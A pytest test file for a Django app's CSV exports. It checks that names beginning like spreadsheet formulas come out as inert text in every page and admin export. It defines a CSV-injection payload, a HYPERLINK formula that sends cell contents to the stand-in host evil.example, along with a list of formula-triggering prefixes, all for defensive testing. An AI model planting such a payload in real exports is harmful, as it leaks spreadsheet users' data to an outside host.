"""Every CSV download goes through one writer: Excel-ready and unable to run a formula."""

from datetime import UTC, date, datetime
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse

from campaigns import roi
from partnerships import csv_downloads
from partnerships.models import Role
from tests import factories
from tests.downloads import csv_rows

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# What a spreadsheet would treat as a formula, and what each must come out as.
FORMULA_CELLS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", FORMULA_CELLS)
def test_text_that_would_run_as_a_formula_stays_text(text):
    assert csv_downloads.cell(text) == "'" + text


def test_numbers_stay_numbers_and_an_undefined_ratio_is_empty():
    rows = [["a", Decimal("-12.50"), -3, Decimal("1E+1"), None, date(2026, 11, 1), "plain"]]
    text = "".join(csv_downloads.lines(rows))
    assert text == "\ufeffa,-12.50,-3,10,,2026-11-01,plain\r\n"


@pytest.fixture
def hostile(brand):
    """One of each row an export lists, every name a formula."""
    campaign = factories.CampaignFactory(
        brand=brand, name=HOSTILE, start=date(2026, 11, 1), end=date(2026, 11, 30)
    )
    participant = factories.ParticipantFactory(
        campaign=campaign,
        contract__title=HOSTILE,
        contract__partnership__influencer__brand=brand,
        contract__partnership__influencer__name=HOSTILE,
        contract__partnership__influencer__agency=HOSTILE,
    )
    influencer = participant.contract.partnership.influencer
    factories.SocialAccountFactory(influencer=influencer, handle="-evil")
    code = factories.TrackingCodeFactory(participant=participant, code="EVIL10")
    factories.SaleFactory(
        tracking_code=code,
        ordered_at=datetime(2026, 11, 5, 12, tzinfo=UTC),
        product__name=HOSTILE,
        product__sku="+SKU",
    )
    statement = factories.StatementFactory(
        contract=participant.contract,
        status="approved",
        total=Decimal("500.00"),
        due_date=date(2026, 12, 31),
    )
    factories.StatementLineFactory(statement=statement, description=HOSTILE)
    job = factories.ImportJobFactory(
        brand=brand, errors=[{"line": 2, "field": "code", "message": HOSTILE}]
    )
    roi.refresh(brand, now=datetime(2026, 12, 2, tzinfo=UTC))
    return {"campaign": campaign, "statement": statement, "job": job}


def live_formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting like a formula and not a plain number."""
    return [
        cell
        for cell in cells
        if cell.startswith(csv_downloads.FORMULA_STARTS) and not _is_number(cell)
    ]


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def exports(hostile) -> list[tuple[str, dict]]:
    return [
        (reverse("influencers:list"), {"export": "csv"}),
        (reverse("product_list"), {"export": "csv"}),
        (
            reverse("dashboard"),
            {"export": "csv", "range": "custom", "from": "2026-11-01", "to": "2026-11-30"},
        ),
        (reverse("campaigns:report_csv", args=[hostile["campaign"].pk]), {}),
        (reverse("import_errors", args=[hostile["job"].pk]), {}),
        (reverse("contracts:statement_csv", args=[hostile["statement"].pk]), {}),
        (reverse("contracts:payment_batch"), {}),
    ]


def test_a_hostile_name_comes_out_inert_from_every_page_export(client, brand, hostile):
    owner = factories.UserFactory(is_staff=True)
    factories.MembershipFactory(user=owner, brand=brand, role=Role.OWNER)
    client.force_login(owner)
    for url, params in exports(hostile):
        cells = [cell for row in csv_rows(client.get(url, params)) for cell in row]
        assert "'" + HOSTILE in cells or "'+SKU" in cells, url
        assert not live_formulas(cells), url


@pytest.mark.parametrize(
    ("changelist", "rows"),
    [
        ("admin:influencers_influencer_changelist", "influencer"),
        ("admin:contracts_contract_changelist", "contract"),
        ("admin:contracts_statement_changelist", "statement"),
    ],
)
def test_a_hostile_name_comes_out_inert_from_every_admin_export(
    client, brand, hostile, changelist, rows
):
    staff = factories.UserFactory(is_staff=True)
    factories.MembershipFactory(user=staff, brand=brand, role=Role.OWNER)
    client.force_login(staff)
    statement = hostile["statement"]
    selected = {
        "influencer": statement.contract.partnership.influencer_id,
        "contract": statement.contract_id,
        "statement": statement.pk,
    }[rows]
    response = client.post(
        reverse(changelist), {"action": "export_csv", "_selected_action": [selected]}
    )
    cells = [cell for row in csv_rows(response) for cell in row]
    assert "'" + HOSTILE in cells
    assert not live_formulas(cells)
